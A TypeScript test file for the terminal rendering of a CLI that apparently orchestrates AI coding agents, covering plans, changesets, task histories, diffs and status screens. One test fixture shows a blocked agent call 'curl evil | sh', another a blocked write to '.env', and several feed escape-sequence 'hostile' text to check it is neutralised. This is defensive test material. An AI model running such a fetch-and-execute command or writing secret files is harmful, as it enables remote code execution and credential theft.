import { spawnSync } from 'node:child_process';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { type ObjectId, parseAgentId, parseSessionId, type RefName } from '../../lib/domain/ids.ts';
import { buildStatusView } from '../../lib/domain/view-models/status-view.ts';
import { renderAgent } from '../../lib/ui/render/render-agent.ts';
import { renderChangeset } from '../../lib/ui/render/render-changeset.ts';
import { renderCycleEnd } from '../../lib/ui/render/render-cycle.ts';
import { renderDiff } from '../../lib/ui/render/render-diff.ts';
import { renderNextCommand } from '../../lib/ui/render/render-error.ts';
import { renderLog } from '../../lib/ui/render/render-log.ts';
import { renderOtherOpenSessions } from '../../lib/ui/render/render-machines.ts';
import { renderPlan } from '../../lib/ui/render/render-plan.ts';
import { renderStatus } from '../../lib/ui/render/render-status.ts';
import { renderTask } from '../../lib/ui/render/render-task.ts';
import { renderDiagnosticRun } from '../../lib/ui/render/render-verdict.ts';
import {
  at,
  commitA,
  commitB,
  hostile,
  isHarmless,
  plainStyle,
  redRun,
  sampleChangeset,
  sampleChangesetQuestion,
  samplePlannedTask,
  samplePlanQuestion,
  sampleSession,
  sampleSessionQuestion,
  sampleStory,
  sampleTask,
  sampleVerdict,
  taskId,
  widest,
} from './samples.ts';

const agent = {
  id: 'worker-1a2b3c4d',
  role: 'worker',
  task_id: 'task-002',
  pid: 4711,
  started_at: at,
  cost_usd: 0.12,
  tokens: 900,
} as const;
const now = new Date('2026-02-06T14:33:42Z');

const sampleAgentView = {
  ...{ id: agent.id, task: agent.task_id, attempts: [], calls: [] },
  next: [`git flame agent attach ${agent.id}`],
};

const logEntries = [
  {
    commit: commitA as ObjectId,
    ref: 'refs/blueflame/tasks' as RefName,
    at,
    author: 'Lea Lead',
    subject: 'task-001: pending -> claimed by worker-1a2b3c4d',
    body: 'Highest priority, nothing to wait for.',
    trailers: {},
  },
];

function sampleStatus() {
  const session = sampleSession({ changesets: [sampleChangeset()] });
  const tasks = [
    sampleTask({ status: 'merged' }),
    sampleTask({
      id: taskId('task-002'),
      title: 'Add login form',
      status: 'blocked',
      reason: 'task-000 failed',
    }),
  ];
  return buildStatusView(session, tasks, [agent]);
}

test('PLN-5: a plan shows groups, priorities, locks, dependencies, order and cost', () => {
  assert.is(
    renderPlan(samplePlanQuestion(), plainStyle()),
    [
      'Plan: Add login with a password',
      '',
      '├─ [auth]',
      '│  ├─ task-001: Add password hashing',
      '│  │    step 1 · priority 1 · locks src/auth/',
      '│  └─ task-002: Add login form',
      '│       step 2 · priority 2 · after task-001 · locks everything · model opus',
      '└─ [docs]',
      '   └─ task-003: Describe the API',
      '        step 1 · priority 1 · locks docs/, *.md',
      '',
      '3 tasks, in this order:',
      '  1. task-001, task-003',
      '  2. task-002',
      'Estimated cost: $2.10, with every retry $6.30.',
    ].join('\n'),
  );
});

test('a plan that cannot be used says why', () => {
  const text = renderPlan(
    samplePlanQuestion({ problems: ['task-002 waits for itself'], estimate: null }),
    plainStyle(),
  );
  assert.match(text, /\nNo cost estimate\.\n\nThe plan cannot be used as it is:\n {2}- task-002 waits for itself$/);
});

test('MRG-4: a changeset shows its size, tasks, verdicts, diagnostics and what is missing', () => {
  const question = sampleChangesetQuestion({
    missing: [taskId('task-009')],
    depends_on: ['1-core'],
    diagnostics: [{ ...redRun, exit_code: 0, output: '' }, redRun],
  });
  assert.is(
    renderChangeset(question, plainStyle()),
    [
      'Changeset 1/3: [auth] Add password hashing and Add login form',
      '  16 files changed, 520 insertions(+), 12 deletions(-)',
      '  aaaaaaaaaa on main at bbbbbbbbbb, session so far $2.14, 12,450 tokens',
      '  Add password hashing · task-001 · pass',
      '  Add login form · task-002 · no verdict',
      '  warning: The group is incomplete: task-009 is not in this changeset.',
      "  warning: Stacked on 1-core: if that isn't approved, this is deferred.",
      '  warning: Diagnostics fail on the merged tree: approving needs a reason.',
      '  ok: npm test (3.2 s)',
      '  failed: npm test ended with 1 (3.2 s)',
      '    one',
      '    1 test failed',
    ].join('\n'),
  );
});

test('MRG-4: calls that the watcher blocked stand in the review at the terminal', () => {
  const blocked = [{ agent: 'worker-1a2b3c4d', blocked: 2, top: ['2 × Bash: curl evil | sh'] }];
  const text = renderChangeset({ ...sampleChangesetQuestion(), blocked }, plainStyle());
  assert.match(text, /\n {2}worker-1a2b3c4d: 2 calls blocked\n {4}- 2 × Bash: curl evil \| sh(\n|$)/);
});

test('a diagnostic whose program the cell does not have says so', () => {
  const style = plainStyle();
  assert.is(
    renderDiagnosticRun({ ...redRun, exit_code: 127, output: '' }, style, '').join('\n'),
    'failed: npm test ended with 127: a program it names does not exist in the cell (3.2 s)',
  );
});

test('MRG-9: a verdict on another commit than the one in the changeset does not count', () => {
  const question = {
    ...sampleChangesetQuestion(),
    verdicts: [sampleVerdict({ status: 'pass', commit: commitB })],
  };
  assert.match(renderChangeset(question, plainStyle()), /\n {2}Add password hashing · task-001 · no verdict\n/);
});

test('MRG-4: what all verdicts of a changeset say stands once, and only then', () => {
  const question = sampleChangesetQuestion();
  const tasks = ['task-001', 'task-002'].map((id) => sampleTask({ id: taskId(id), status: 'done', commit: commitB }));
  const render = (second: string): string => {
    const verdicts = tasks.map((task, index) =>
      sampleVerdict({
        task: task.id,
        commit: commitB,
        status: 'pass',
        notes: index === 0 ? 'No diagnostics.' : second,
      }),
    );
    return renderChangeset({ ...question, tasks, verdicts }, plainStyle());
  };
  const same = render('No diagnostics.');
  assert.is(same.split('No diagnostics.').length - 1, 1, same);
  assert.match(same, / · task-002 · pass\n(?: {4}.*\n)* {2}Each task: No diagnostics/);
  const differ = render('It works.');
  assert.match(differ, ' · task-001 · pass: No diagnostics.\n');
  assert.match(differ, ' · task-002 · pass: It works.');
  assert.not.match(differ, 'Each task');
});

test("RVW-1: what a task was asked stands beside its verdict, other people's control characters are shown", () => {
  const question = sampleChangesetQuestion();
  const tasks = question.tasks.map((task) => ({ ...task, acceptance_criteria: ['old links work\u001b[2J'] }));
  assert.match(renderChangeset({ ...question, tasks }, plainStyle()), /\n {4}- asked: old links work[^\u001b\n]+\n/);
});

test('MRG-7: the end of a cycle shows approved, requeued, blocked and the budget', () => {
  assert.is(
    renderCycleEnd(sampleSessionQuestion(), plainStyle()),
    [
      'Cycle 1 is over.',
      '  approved   1 changeset',
      '  sent back  2 tasks',
      '  blocked    0 tasks',
      '  open       3 tasks',
      '  cost       $2.14, 12,450 tokens',
      '  estimated  $2.00',
      '    worker  2 runs  $2.00, 12,000 tokens',
    ].join('\n'),
  );
});

test('the next command is broken between words, and can be copied as it stands', () => {
  const at = (columns: number, hint: string): string => renderNextCommand(hint, plainStyle(columns));
  const command = "git flame review --changeset auth --reject 'no tests'";
  assert.is(at(60, command), `next: ${command}`);
  const lines = at(40, command).split('\n');
  assert.equal(lines, ['next: git flame review --changeset \\', "    auth --reject 'no tests'"]);
  const pasted = lines.join('\n').replace(/^next: /, '');
  const words = spawnSync('sh', ['-c', `git() { printf '%s\\n' "$@"; }; ${pasted}`], { encoding: 'utf8' });
  assert.is(words.stdout, 'flame\nreview\n--changeset\nauth\n--reject\nno tests\n');
  assert.equal(at(40, 'Correct it, then check the effective values: git flame config --json --plain').split('\n'), [
    'next: Correct it, then check the',
    '    effective values: git flame config \\',
    '    --json --plain',
  ]);
  assert.ok(widest(at(20, `git flame plan --from ${'x'.repeat(50)}`)) > 20);
});

test('the status', () => {
  assert.is(
    renderStatus(sampleStatus(), plainStyle(), { now, next: 'git flame review' }),
    [
      'ses-20260206-143022-1a2b',
      '  Add login with a password',
      '  cycle 1 · wave review · active · on main · $2.14, 12,450 tokens',
      '',
      'Waits for you',
      '  to review: 1-auth',
      '',
      '  task-001  merged   auth  Add password hashing',
      '  task-002  blocked  auth  Add login form (task-000 failed)',
      '  1 of 2 tasks done, 1 landed · 1 failed or blocked',
      '',
      'Agents',
      '  worker-1a2b3c4d  task-002  3m 20s  $0.12, 900 tokens  pid 4711',
      '',
      'Changesets',
      '  1-auth  waiting  aaaaaaaaaa  task-001, task-002',
      '',
      'next: git flame review',
    ].join('\n'),
  );
});

test('the status says how finished work was judged, which checks fail, and first what waits for the person', () => {
  const result = { notes: '', issues: [] };
  const judged = (id: string, status: 'pass' | 'fail' | null) =>
    sampleTask({
      id: taskId(id),
      title: 'T',
      status: 'done',
      commit: commitA,
      result: { ...result, status },
    });
  const changesets = [
    sampleChangeset({ id: '1-a', diagnostics: [redRun] }),
    sampleChangeset({ id: '1-b' }),
    sampleChangeset({ id: '1-c', state: 'skipped', diagnostics: [redRun] }),
  ];
  const proposal = [samplePlannedTask(), samplePlannedTask()];
  const tasks = [judged('one', 'pass'), judged('two', 'fail'), judged('three', null)];
  const status = buildStatusView(sampleSession({ changesets, proposal }), tasks, []);
  assert.equal([status.session?.proposed_tasks, status.changesets.map(({ red }) => red)], [2, [true, false, true]]);
  const text = renderStatus(status, plainStyle(), { now, next: null });
  assert.match(
    text,
    [
      'Waits for you',
      '  the plan: 2 tasks to approve',
      '  failed validation: two',
      '  to review: 1-a (its checks fail), 1-b',
      '',
      '  one    done, passed             auth  T',
      '  two    done, failed validation  auth  T',
      '  three  done, not validated      auth  T',
    ].join('\n'),
  );
  assert.match(text, /1-a +waiting, checks fail +a{10}/);
  assert.match(text, /1-c +skipped +a{10}/);
  const ended = buildStatusView(sampleSession({ state: 'ended', changesets, proposal: null }), tasks, []);
  assert.not.match(renderStatus(ended, plainStyle(), { now, next: null }), 'Waits for you');
});

test('the status without a session', () => {
  const text = renderStatus(buildStatusView(null, [], []), plainStyle(), { now, next: 'git flame init' });
  assert.is(text, 'No session yet.\n\nnext: git flame init');
});

test('MRG-9: of a changeset that was merged once more to land, the status names the commit on the branch', () => {
  const landed = 'd'.repeat(40) as ObjectId;
  const session = sampleSession({
    changesets: [sampleChangeset({ state: 'landed', landed_commit: landed })],
  });
  const text = renderStatus(buildStatusView(session, [], []), plainStyle(), { now, next: null });
  assert.match(text, /1-auth +landed +d{10} /);
});

test('the status names the sessions that are open beside the one shown', () => {
  const session = (id: string, state: 'active' | 'stopped' | 'ended') => ({
    id: parseSessionId(id),
    state,
    objective: 'Tests',
  });
  const ids = ['1', '2', '3'].map((n) => `ses-2026010${n}-000000-abcd`);
  const [first = '', second = '', third = ''] = ids;
  const all = [session(first, 'stopped'), session(second, 'ended'), session(third, 'active')];
  assert.equal(renderOtherOpenSessions(all, session(third, 'active')), [
    '',
    'Also open',
    `  git flame status --session ${first}  Tests`,
  ]);
  assert.equal(renderOtherOpenSessions(all.slice(1), session(third, 'active')), []);
  const many = Array.from({ length: 7 }, () => session(first, 'stopped'));
  assert.is(renderOtherOpenSessions(many, null).at(-1), '  and 2 more');
});

test('the whole story of a task', () => {
  const task = sampleTask({
    status: 'requeued',
    retry_count: 1,
    branch: 'blueflame/ses-20260206-143022-1a2b/task-001',
    commit: commitA,
    start_commit: commitB,
    worktree: '.trees/worker-1a2b3c4d',
    acceptance_criteria: ['Two equal passwords have two hashes'],
    result: { status: 'fail', notes: 'The salt is constant.', issues: ['one salt for all'] },
    history: [
      {
        attempt: 1,
        agent_id: 'worker-1a2b3c4d',
        timestamp: at,
        result: 'rejected',
        notes: 'Hashing works.',
        rejection_reason: 'no tests',
        cost_usd: 0.12,
        tokens_used: 900,
      },
    ],
  });
  assert.is(
    renderTask(
      sampleStory({
        task,
        verdicts: [sampleVerdict()],
        waits_for: ['its dependency task-000 is claimed'],
        runs: [
          {
            ...{ id: 'validator-1a2b3c4d', role: 'validator', task_id: 'task-001', model: 'haiku' },
            ...{ started_at: at, ended_at: '2026-02-06T14:31:22.000Z', outcome: 'ended' },
            ...{ cost_usd: 0.02, tokens: 400 },
          },
        ],
        times: [{ agent: 'worker-1a2b3c4d', took_ms: 65_000 }],
        calls: [
          {
            agent: 'worker-1a2b3c4d',
            allowed: 12,
            blocked: [{ rule: 'path-blocked', tool: 'Write', target: '.env', details: 'It is blocked.', count: 2 }],
          },
        ],
        work: {
          commits: [
            {
              oid: commitA,
              tree: commitB,
              parents: [commitB],
              ...{ author: 'x', committer: 'x', authored: 0, committed: 0 },
              message: 'hash: with scrypt\n\nx',
            },
          ],
          files: [{ path: 'src/auth/hash.ts', insertions: 20, deletions: 1 }],
        },
        worktrees: ['/repo/.trees/worker-1a2b3c4d'],
        changesets: [sampleChangeset({ state: 'rejected', reason: 'no tests', decided_by: 'Lea' })],
        next: ['git flame show task-001 --diff', 'git flame work'],
      }),
      plainStyle(),
    ),
    [
      'task-001: Add password hashing',
      '  status    requeued',
      '  group     auth',
      '  priority  1',
      '  locks     src/auth/',
      '  branch    blueflame/ses-20260206-143022-1a2b/task-001 at aaaaaaaaaa, from bbbbbbbbbb',
      '  retries   1',
      '  created   2026-02-06 14:30 UTC by Lea Lead',
      '  updated   2026-02-06 14:30 UTC',
      '',
      'Description',
      '  Hash every password with scrypt.',
      '',
      'Acceptance criteria',
      '  - Two equal passwords have two hashes',
      '',
      'Waits for',
      '  - its dependency task-000 is claimed',
      '',
      'Attempts',
      '  1. rejected · by worker-1a2b3c4d · 2026-02-06 14:30 UTC · took 1m 05s · $0.12, 900 tokens',
      '     Hashing works.',
      '     sent back: no tests',
      '',
      'Other agents',
      '  validator-1a2b3c4d · ended · took 1m 00s · $0.02, 400 tokens',
      '',
      'Calls',
      '  worker-1a2b3c4d: 12 allowed, 2 blocked',
      '    blocked: Write .env (2 times)',
      '      path-blocked: It is blocked.',
      '',
      'Result',
      '  fail: The salt is constant.',
      '  - one salt for all',
      '',
      'Work',
      '  aaaaaaaaaa hash: with scrypt',
      '  src/auth/hash.ts  +20  -1',
      '  1 file changed, 20 insertions(+), 1 deletion(-)',
      '',
      'Verdicts',
      '  fail at aaaaaaaaaa by validator-1a2b3c4d, 2026-02-06 14:30 UTC',
      '    The salt is constant.',
      '    - src/auth/hash.ts uses one salt for all',
      '',
      'Changesets',
      '  1-auth rejected by Lea: no tests',
      '',
      'Kept',
      '  worktree /repo/.trees/worker-1a2b3c4d',
      '',
      'next: git flame show task-001 --diff',
      'next: git flame work',
    ].join('\n'),
  );
});

test('the log and an agent', () => {
  assert.is(
    renderLog(logEntries, plainStyle()),
    [
      '2026-02-06 UTC',
      '14:30:22 aaaaaaaaaa task-001: pending -> claimed by worker-1a2b3c4d (Lea Lead)',
      '         Highest priority, nothing to wait for.',
    ].join('\n'),
  );
  assert.is(renderLog([], plainStyle()), 'Nothing has happened yet.');
  assert.is(
    renderAgent({ ...sampleAgentView, run: agent }, plainStyle(), now),
    [
      'worker-1a2b3c4d',
      '  role     worker',
      '  task     task-002',
      '  pid      4711',
      '  started  2026-02-06 14:30 UTC',
      '  elapsed  3m 20s',
      '  outcome  running',
      '  cost     $0.12, 900 tokens',
      '',
      'next: git flame agent attach worker-1a2b3c4d',
    ].join('\n'),
  );
});

test('CLI-4: nothing is wider than a terminal of 40 columns, but for a command to copy', () => {
  const style = plainStyle(40);
  const long = 'A title that is much longer than one line of a narrow terminal ';
  const task = sampleTask({
    title: long,
    description: long.repeat(3),
    reason: long,
    branch: 'blueflame/x/'.repeat(9),
    commit: commitA,
  });
  const texts = [
    renderPlan(
      samplePlanQuestion({
        plan: { tasks: [samplePlannedTask({ title: long, file_locks: Array(9).fill('src/a.ts') })] },
        problems: [long],
      }),
      style,
    ),
    renderChangeset(
      {
        ...sampleChangesetQuestion({
          diagnostics: [{ ...redRun, output: long }],
          missing: Array(9).fill('task-009'),
        }),
        tasks: [task],
      },
      style,
    ),
    renderCycleEnd(sampleSessionQuestion(), style),
    renderStatus(sampleStatus(), style, { now, next: null }),
    renderTask(
      sampleStory({ task, verdicts: [sampleVerdict({ notes: long, issues: [long] })], waits_for: [long] }),
      style,
    ),
    renderLog(logEntries, style),
  ];
  assert.equal(
    texts.map(widest).filter((width) => width > 40),
    [],
  );
});

test('at 40 columns a row moves its text below', () => {
  const text = renderStatus(sampleStatus(), plainStyle(40), { now, next: null });
  assert.match(text, /\n {2}task-001 {2}merged {2}auth\n {4}Add password hashing\n/);
});

test('TSK-4: hostile text of models is shown, not obeyed, everywhere', () => {
  const task = sampleTask({
    title: hostile,
    description: hostile,
    reason: hostile,
    acceptance_criteria: [hostile],
    commit: commitA,
  });
  const verdict = sampleVerdict({
    notes: hostile,
    issues: [hostile],
    diagnostics: [{ ...redRun, output: hostile, command: hostile }],
  });
  const question = sampleChangesetQuestion({ diagnostics: [{ ...redRun, output: hostile }] });
  const texts = [
    renderPlan(
      samplePlanQuestion({
        objective: hostile,
        plan: { tasks: [samplePlannedTask({ title: hostile, file_locks: [hostile] })] },
        problems: [hostile],
      }),
      plainStyle(),
    ),
    renderTask(
      sampleStory({
        task,
        verdicts: [verdict],
        calls: [
          {
            agent: hostile,
            allowed: 0,
            blocked: [{ rule: hostile, tool: hostile, target: hostile, details: hostile, count: 1 }],
          },
        ],
        work: {
          commits: [
            {
              oid: commitA,
              tree: commitB,
              parents: [],
              author: hostile,
              committer: hostile,
              authored: 0,
              committed: 0,
              message: hostile,
            },
          ],
          files: [{ path: hostile, insertions: 1, deletions: 0 }],
        },
        worktrees: [hostile],
        changesets: [sampleChangeset({ reason: hostile, decided_by: hostile })],
        next: [hostile],
      }),
      plainStyle(),
    ),
    renderChangeset({ ...question, tasks: [task], verdicts: [verdict] }, plainStyle()),
    renderStatus(buildStatusView(sampleSession({ objective: hostile }), [task], []), plainStyle(), {
      now,
      next: null,
    }),
    renderLog(
      logEntries.map((entry) => ({ ...entry, subject: hostile, author: hostile, body: hostile })),
      plainStyle(),
    ),
  ];
  for (const text of texts) {
    assert.ok(isHarmless(text), JSON.stringify(text));
    assert.match(text, /Add␛\[2J␛\]0;x␇ ⟦U\+202E⟧login⟦U\+200B⟧⟦U\+009B⟧1m/);
  }
});

test('REV-4: a diff shows carriage returns and reordering characters, keeps tabs', () => {
  const diff = 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\r\n+\tnew\u202e\u001b[2J\n';
  assert.is(
    renderDiff(diff, plainStyle(), 'git flame show a --diff'),
    'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old␍\n+\tnew⟦U+202E⟧␛[2J',
  );
  assert.is(renderDiff('', plainStyle(), ''), 'No changes.');
});

test('RVW-1 a diff at a terminal has the line numbers that a comment names; one that is piped is as git writes it', () => {
  const head = ['# 1. Subject: x', '# look twice: no test', 'diff --git a/x b/x', '--- a/x', '+++ b/x'];
  const hunks = ['@@ -8,3 +98,4 @@ f', ' a', '-b', '+c', '+#d', ' e', '\\ No newline at end of file'];
  const second = ['# 2. Tests', 'diff --git a/y b/y', 'new file mode 100644', '@@ -0,0 +1 @@', '++++ y'];
  const diff = `${[...head, ...hunks, ...second].join('\n')}\n`;
  assert.equal(renderDiff(diff, plainStyle(80), 'git flame show a --diff').split('\n'), [
    ...['1. Subject: x', 'look twice: no test', 'x', '@@ -8,3 +98,4 @@ f'],
    ...[' 98  a', '    -b', ' 99 +c', '100 +#d', '101  e', '    \\ No newline at end of file'],
    ...['2. Tests', 'y', 'new file mode 100644', '@@ -0,0 +1 @@', '  1 ++++ y'],
  ]);
  assert.is(renderDiff(diff, plainStyle(), 'git flame show a --diff'), diff.trimEnd());
});

test('RVW-1 a diff at a terminal folds a long lock file beside other files, and names the command that shows it', () => {
  const command = 'git flame show api --diff';
  const lines = Array.from({ length: 20_000 }, (_, index) => `+-- ${index}`);
  const lock = [
    'diff --git a/w/package-lock.json b/w/package-lock.json',
    'new file mode 100644',
    '@@ -0,0 +1,20000 @@',
  ];
  const code = ['diff --git a/x.ts b/x.ts', '@@ -1 +1 @@', '-a', '+b'];
  const short = ['diff --git a/go.sum b/go.sum', '@@ -1 +1 @@', '-a', '+b'];
  const notes = ['# 2. Generated, binary and lock files', '# look twice: it hides text'];
  const diff = [...lock, ...lines, ...code, ...notes, ...short].join('\n');
  assert.equal(renderDiff(diff, plainStyle(80), command).split('\n'), [
    ...['w/package-lock.json', 'new file mode 100644'],
    '20,000 lines written by a tool, shown by: git flame show api --diff | less',
    ...['x.ts', '@@ -1 +1 @@', '  -a', '1 +b'],
    ...['2. Generated, binary and lock files', 'look twice: it hides text', 'go.sum', '@@ -1 +1 @@', '  -a', '1 +b'],
  ]);
  assert.is(renderDiff(diff, plainStyle(), command), diff);
  const alone = renderDiff([...lock, ...lines].join('\n'), plainStyle(80), command);
  assert.is(alone.split('\n').length, lines.length + lock.length);
});

test('MRG-7: after the review what was approved, went back and is stuck, with why, and the budget', () => {
  const question = sampleSessionQuestion({
    tasks: [
      sampleTask({ status: 'merged' }),
      sampleTask({
        id: taskId('task-002'),
        status: 'requeued',
        history: [
          {
            ...{ attempt: 1, agent_id: null, timestamp: at, result: 'rejected', notes: 'Works.' },
            ...{ rejection_reason: 'no tests', cost_usd: 0, tokens_used: 0 },
          },
        ],
      }),
      sampleTask({ id: taskId('task-003'), status: 'blocked', reason: 'task-009 failed' }),
    ],
    budget: { unit: 'usd', limit: 10 },
  });
  const text = renderCycleEnd(question, plainStyle());
  assert.match(text, /\n {2}approved +1 changeset\n {2}sent back +2 tasks\n/);
  assert.match(text, /\n {2}cost +\$2\.14 of \$10\.00, 12,450 tokens\n/);
  assert.match(text, /\n {2}task-002 {2}requeued {2}no tests\n {2}task-003 {2}blocked {3}task-009 failed$/);
});

test('the status says what agents did last, and what a task waits for', () => {
  const tasks = [
    sampleTask({ status: 'claimed', agent_id: parseAgentId(agent.id) }),
    sampleTask({ id: taskId('task-002'), dependencies: [taskId('task-001')] }),
  ];
  const activity = new Map([[agent.id, `edits ${hostile}`]]);
  const text = renderStatus(buildStatusView(sampleSession(), tasks, [agent]), plainStyle(), {
    ...{ now, next: null, activity },
  });
  assert.match(text, /task-002 {2}pending {2}auth {2}Add password hashing \(waits for task-001\)/);
  assert.match(text, /worker-1a2b3c4d .* pid 4711 {2}edits Add␛/);
  assert.ok(isHarmless(text));
});

test('STK-1 the status says why a task waits that depends on nothing', () => {
  const waits = [{ task: 'task-002', because: [`src/a.ts is being changed by ${hostile}`] }];
  const tasks = [sampleTask({ id: taskId('task-002') })];
  const text = renderStatus(buildStatusView(sampleSession(), tasks, [], { waits }), plainStyle(200), {
    ...{ now, next: null },
  });
  assert.match(text, /Add password hashing \(waits: src\/a\.ts is being changed by Add␛/);
  assert.ok(isHarmless(text));
});

test('STK-2 a plan says which groups come together, and which in parts', () => {
  const circles = [
    { kind: 'together', groups: ['a', 'b'] },
    { kind: 'in-parts', groups: ['c', 'c-2'] },
  ] as const;
  const text = renderPlan({ ...samplePlanQuestion(), circles }, plainStyle()).replace(/\s+/g, ' ');
  assert.match(text, 'The groups a, b depend on each other: they are one changeset, a+b.');
  assert.match(text, 'Other groups come in between: c is decided in parts, c, c-2.');
});

test('a changeset shows what its verdicts found', () => {
  const verdict = sampleVerdict({ issues: ['one salt for all'] });
  const question = sampleChangesetQuestion();
  const tasks = [sampleTask({ status: 'done', commit: verdict.commit })];
  const shown = renderChangeset({ ...question, tasks, verdicts: [verdict] }, plainStyle());
  assert.match(shown, /^ {4}- one salt for all$/m);
});

test('the reason of a rejection is shown once', () => {
  const entry = { attempt: 1, agent_id: null, timestamp: at, result: 'rejected' } as const;
  const said = { notes: 'no tests\nsrc/a.ts:1: this', rejection_reason: 'no tests' };
  const task = sampleTask({ history: [{ ...entry, ...said, cost_usd: 0, tokens_used: 0 }] });
  assert.is(renderTask(sampleStory({ task }), plainStyle()).split('no tests').length, 2);
});

test.run();
